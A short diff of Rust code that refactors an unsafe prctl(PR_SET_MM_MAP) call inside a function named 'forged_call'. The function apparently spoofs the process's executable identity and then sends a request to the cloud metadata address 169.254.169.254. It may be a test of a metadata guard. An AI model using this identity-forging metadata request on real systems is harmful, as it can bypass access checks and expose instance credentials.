@@ -253,19 +253,10 @@ fn forged_call(path: &str, file: &Path) -> io::Result<()> {
         exe_fd: exe.as_raw_fd().unsigned_abs(),
     };
     const PR_SET_MM_MAP: libc::c_ulong = 14;
+    let size = size_of::<MemoryMap>();
     // SAFETY: the structure is the one that the kernel expects, of the size given, and lives for the call.
-    check(
-        unsafe {
-            libc::prctl(
-                libc::PR_SET_MM,
-                PR_SET_MM_MAP,
-                &raw const map,
-                size_of::<MemoryMap>(),
-                0,
-            )
-        }
-        .into(),
-    )?;
+    let result = unsafe { libc::prctl(libc::PR_SET_MM, PR_SET_MM_MAP, &raw const map, size, 0) };
+    check(result.into())?;
     let mut stream = TcpStream::connect("169.254.169.254:80")?;
     stream.write_all(get(path).as_bytes())?;
     stream.read_exact(&mut [0; 12])
